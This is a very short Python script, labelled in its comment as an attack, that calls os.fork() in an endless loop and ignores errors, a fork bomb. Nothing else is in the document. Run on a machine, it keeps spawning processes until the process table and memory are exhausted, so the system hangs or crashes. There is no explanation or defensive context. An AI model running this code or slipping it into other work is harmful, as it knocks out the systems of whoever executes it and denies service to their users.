# Attack: a fork storm.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
